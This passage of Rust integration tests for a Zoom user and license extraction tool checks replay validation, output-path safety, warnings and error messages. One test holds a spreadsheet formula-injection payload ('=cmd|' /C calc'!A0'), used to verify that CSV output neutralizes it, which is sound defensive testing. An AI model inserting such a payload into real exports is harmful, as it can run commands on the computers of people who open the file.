        let column = batch.column_by_name("group_ids").unwrap().as_list::<i32>();
        for row in 0..column.len() {
            lists.push(column.is_valid(row).then(|| {
                let ids = column.value(row);
                ids.as_string::<i32>()
                    .iter()
                    .map(|v| v.unwrap().to_string())
                    .collect()
            }));
        }
    }
    let want: Vec<Option<Vec<String>>> = groups
        .iter()
        .map(|g| {
            g.as_ref()
                .map(|ids| ids.iter().map(|s| s.to_string()).collect())
        })
        .collect();
    assert_eq!(lists, want);
}

/// A hostile value in any text column but the identifiers, emails and JSON (here codes Zoom never
/// sends in that shape, in a license row and in a reject) is neutralized in CSV; the identifiers
/// and emails, which can begin with `-` or `+`, and the JSON are written exactly as received, and
/// NDJSON alters nothing.
#[test]
fn csv_neutralizes_every_formula_but_never_an_identifier_email_or_json() {
    let work = tempfile::tempdir().unwrap();
    let recording = work.path().join("recording");
    copy_dir(&fixture("pagination"), &recording);
    let row = r#"{"id":"-row1","email":"+row@example.com","type":2,"status":"active","timezone":"=1+1","role_id":"@2","last_client_version":"-3","language":"+4","group_ids":["-g1"],"employee_unique_id":"=E5"}"#;
    let reject =
        r#"{"id":"-rej1","email":"-rej@example.com","type":7,"status":"=cmd|' /C calc'!A0"}"#;
    let body = format!(r#"{{"next_page_token":"","users":[{row},{reject}]}}"#);
    fs::write(recording.join("pages/00004-pending.json"), body).unwrap();
    let out = work.path().join("out");
    for format in ["csv", "ndjson"] {
        zoom_licenses()
            .args(["-q", "extract", "--format", format, "--replay"])
            .arg(&recording)
            .arg("--output")
            .arg(out.join(format!("u.{format}")))
            .assert()
            .success();
    }
    let csv = |file: &str, column: &str| csv_cells(&out.join(file), column).pop().unwrap();
    for (column, cell) in [
        ("user_key", "-row1"),
        ("user_id", "-row1"),
        ("email", "+row@example.com"),
        ("group_ids", "-g1"),
        ("employee_unique_id", "=E5"),
        ("timezone", "'=1+1"),
        ("role_id", "'@2"),
        ("last_client_version", "'-3"),
        ("language", "'+4"),
    ] {
        assert_eq!(csv("u.csv", column), cell, "{column}");
    }
    assert_eq!(csv("u_rejects.csv", "user_key"), "-rej1");
    assert_eq!(csv("u_rejects.csv", "email"), "-rej@example.com");
    assert_eq!(csv("u_rejects.csv", "status"), "'=cmd|' /C calc'!A0");
    assert_eq!(csv("u_rejects.csv", "raw"), reject);
    let rows = ndjson_lines(&fs::read_to_string(out.join("u.ndjson")).unwrap());
    let last = rows.last().unwrap();
    assert_eq!(
        (last["timezone"].as_str(), last["user_id"].as_str()),
        (Some("=1+1"), Some("-row1"))
    );
}

/// A recording missing a page from the middle of a sweep (its index entry and its file) is refused:
/// the next page was asked for with a token no recorded page gave.
#[test]
fn a_page_missing_from_the_middle_of_a_recording_is_refused() {
    let (work, recording) = with_index("sample", |index| {
        index["pages"].as_array_mut().unwrap().remove(2);
    });
    fs::remove_file(recording.join("pages/00003-users-active.json")).unwrap();
    replay_in(work.path(), &recording)
        .code(1)
        .stderr(contains("the recording is broken at"))
        .stderr(contains("00004-users-active.json"))
        .stderr(contains("a page is missing from the recording"));
    assert!(dir_entries(&work.path().join("out")).is_empty());
}

/// A FIFO (or device) where a recorded file should be is refused at once, instead of a read that
/// waits for a writer for ever.
#[cfg(unix)]
#[test]
fn a_fifo_in_a_recording_is_refused_not_waited_on() {
    // A broken page is a failed run (1); an index that cannot be read, a wrong --replay (2).
    for (file, code) in [("pages/00002-active.json", 1), ("index.json", 2)] {
        let (work, recording) = with_index("pagination", |_| {});
        let path = recording.join(file);
        fs::remove_file(&path).unwrap();
        let made = std::process::Command::new("mkfifo")
            .arg(&path)
            .status()
            .unwrap();
        assert!(made.success());
        zoom_licenses()
            .current_dir(work.path())
            .args(["extract", "--replay"])
            .arg(&recording)
            .timeout(std::time::Duration::from_secs(60))
            .assert()
            .code(code)
            .stderr(contains(file))
            .stderr(contains("not a regular file"));
        assert!(dir_entries(&work.path().join("out")).is_empty());
    }
}

/// A run to stdout keeps its rejects and manifest apart from an earlier run to files in `out/`.
#[test]
fn a_run_to_stdout_leaves_an_earlier_file_runs_outputs_alone() {
    let work = tempfile::tempdir().unwrap();
    let replay = |args: &[&str]| {
        zoom_licenses()
            .current_dir(work.path())
            .args(["-q", "extract", "--replay"])
            .arg(fixture("sample"))
            .args(args)
            .assert()
            .success()
    };
    replay(&[]);
    let before = files_under(&work.path().join("out"));
    replay(&["--format", "ndjson", "--output", "-"]);
    let after = files_under(&work.path().join("out"));
    for (path, bytes) in &before {
        assert_eq!(after.get(path), Some(bytes), "{path:?} was replaced");
    }
    let stdout_manifest = json_file(work.path().join("out/zoom_users_stdout_manifest.json"));
    assert_eq!(stdout_manifest["outputs"]["licenses"]["path"], "-");
}

/// An output path that is a directory, a FIFO or a symlink is refused before anything is written:
/// committing by rename would replace it (as root, `--rejects /dev/full` replaced the device).
#[cfg(unix)]
#[test]
fn an_output_that_is_not_a_regular_file_is_refused() {
    let work = tempfile::tempdir().unwrap();
    fs::create_dir(work.path().join("a-dir")).unwrap();
    fs::write(work.path().join("real.csv"), "kept").unwrap();
    std::os::unix::fs::symlink("real.csv", work.path().join("link.csv")).unwrap();
    assert!(
        std::process::Command::new("mkfifo")
            .arg(work.path().join("fifo"))
            .status()
            .unwrap()
            .success()
    );
    for (args, path, kind) in [
        (["--output", "a-dir"], "a-dir", "a directory"),
        (["--rejects", "fifo"], "fifo", "a FIFO"),
        (["--manifest", "link.csv"], "link.csv", "a symlink"),
    ] {
        let output = match args[0] {
            "--output" => [].as_slice(),
            _ => ["--output", "o.parquet"].as_slice(),
        };
        zoom_licenses()
            .current_dir(work.path())
            .args(["extract", "--replay"])
            .arg(fixture("sample"))
            .args(output)
            .args(args)
            .timeout(std::time::Duration::from_secs(60))
            .assert()
            .code(2)
            .stderr(contains(format!(
                "{path} exists and is not a regular file ({kind})"
            )));
    }
    assert_eq!(
        fs::read_to_string(work.path().join("real.csv")).unwrap(),
        "kept"
    );
    assert!(
        fs::symlink_metadata(work.path().join("link.csv"))
            .unwrap()
            .is_symlink()
    );
    assert!(!work.path().join("o.parquet").exists());
}

/// A sweep whose every recorded answer is an error (a 429 and no retry) holds none of its users:
/// refused, not an extract that silently lacks them.
#[test]
fn a_sweep_recorded_only_as_errors_is_refused() {
    let (work, recording) = with_index("pagination", |index| {
        index["pages"][3]["http_status"] = 429.into();
    });
    replay_in(work.path(), &recording).code(1).stderr(contains(
        "every recorded answer of `users?status=pending` is an error",
    ));
}

/// A recorded page that is not a page (no users array, a users object, no next_page_token) fails
/// the replay naming the file, instead of reading as an empty page.
#[test]
fn a_recorded_body_without_its_users_array_or_token_is_refused() {
    for (body, says) in [
        ("{}", "no `users` array"),
        (
            r#"{"next_page_token":"","users":{"id":"x"}}"#,
            "invalid JSON",
        ),
        (r#"{"users":[]}"#, "no `next_page_token`"),
    ] {
        let (work, recording) = with_index("pagination", |_| {});
        fs::write(recording.join("pages/00004-pending.json"), body).unwrap();
        replay_in(work.path(), &recording)
            .code(1)
            .stderr(contains("00004-pending.json"))
            .stderr(contains(says));
    }
}

/// Fewer users than a sweep's `total_records` is a warning on stderr, in the summary and in the
/// manifest (Zoom's count can change during a sweep), not a failure.
#[test]
fn fewer_users_than_total_records_is_a_warning() {
    let (work, recording) = with_index("pagination", |_| {});
    for page in [
        "00001-active.json",
        "00002-active.json",
        "00003-active.json",
    ] {
        let path = recording.join("pages").join(page);
        let body = fs::read_to_string(&path).unwrap();
        fs::write(
            &path,
            body.replace(r#""total_records": 7"#, r#""total_records": 10"#),
        )
        .unwrap();
    }
    let output = zoom_licenses()
        .current_dir(work.path())
        .args(["extract", "--replay"])
        .arg(&recording)
        .output()
        .unwrap();
    assert!(output.status.success());
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(
        stderr.contains("warning: 3 active users fewer than Zoom's total_records (7 of 10)"),
        "{stderr}"
    );
    assert!(stderr.contains("WARN"), "{stderr}");
    let m = json_file(work.path().join("out/zoom_users_manifest.json"));
    assert_eq!(m["statuses"]["active"]["short_of_total"], 3);
    assert_eq!(m["statuses"]["pending"]["short_of_total"], 0);
}

/// Honest mistakes get one clear line (exit 2) instead of being ignored or doing something odd:
/// `--statuses` on a replay, `--manifest -`, `--config` without `--account`; and `--rejects -`
/// keeps stdout data only (no manifest path after the rows).
#[test]
fn honest_mistakes_get_one_clear_line() {
    let work = tempfile::tempdir().unwrap();
    let sample = fixture("sample");
    for (args, says) in [
        (
            vec!["--statuses", "inactive"],
            "a replay reads every status the recording holds",
        ),
        (
            vec!["--statuses", "bogus"],
            "a replay reads every status the recording holds",
        ),
        (vec!["--manifest", "-"], "--manifest must be a file path"),
        (
            vec!["--partition-date", "2026-11-27"],
            "required arguments were not provided",
        ),
        // With --output, which conflicts with --output-dir, clap lets these through.
        (
            vec!["-o", "u.parquet", "--partition-date", "2026-11-27"],
            "--partition-date works on partitions: give --output-dir DIR",
        ),
        (
            vec!["-o", "u.parquet", "--partition-account", "a"],
            "--partition-account works on partitions",
        ),
    ] {
        zoom_licenses()
            .current_dir(work.path())
            .args(["extract", "--replay"])
            .arg(&sample)
            .args(&args)
            .assert()
            .code(2)
            .stderr(contains(says));
    }
    let output = zoom_licenses()
        .current_dir(work.path())
        .args([
            "-q",
            "extract",
            "--format",
            "ndjson",
            "--output",
            "rows.ndjson",
            "--rejects",
            "-",
        ])
        .arg("--replay")
        .arg(&sample)
        .output()
        .unwrap();
    assert!(output.status.success());
    let lines = ndjson_lines(&String::from_utf8(output.stdout).unwrap());
    assert_eq!(lines.len(), 158, "every line on stdout is a reject row");

    fs::write(
        work.path().join("accounts.toml"),
        "[[account]]\nname = \"a\"\naccount_id = \"x\"\nclient_id = \"y\"\nclient_secret_env = \"S\"\n",
    )
    .unwrap();
    let output = zoom_licenses()
        .current_dir(work.path())
        .env_remove("ZOOM_ACCOUNT_ID")
        .env("ZOOM_TOKEN_FILE", work.path().join("no-token.json"))
        .env("ZOOM_API_URL", "http://127.0.0.1:9/v2")
        .env("ZOOM_OAUTH_URL", "http://127.0.0.1:9")
        .args(["extract", "--config", "accounts.toml"])
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(2), "{stderr}");
    assert!(
        stderr.contains("choose one with --account NAME"),
        "{stderr}"
    );
    assert!(!stderr.contains("   "), "runs of spaces: {stderr}");
}

/// An empty credential variable (a template that rendered nothing) is refused, not taken for a
/// value that chooses the kind of app or is sent to Zoom.
#[test]
fn an_empty_credential_variable_is_refused() {
    for var in ["ZOOM_ACCOUNT_ID", "ZOOM_CLIENT_ID", "ZOOM_CLIENT_SECRET"] {
        zoom_licenses()
            .env("ZOOM_ACCOUNT_ID", "a")
            .env("ZOOM_CLIENT_ID", "b")
            .env("ZOOM_CLIENT_SECRET", "c")
            .env(var, "")
            .args(["check"])
            .assert()
            .code(2)
            .stderr(contains(
                "it is empty: give a value, or unset the environment variable",
            ));
    }
}
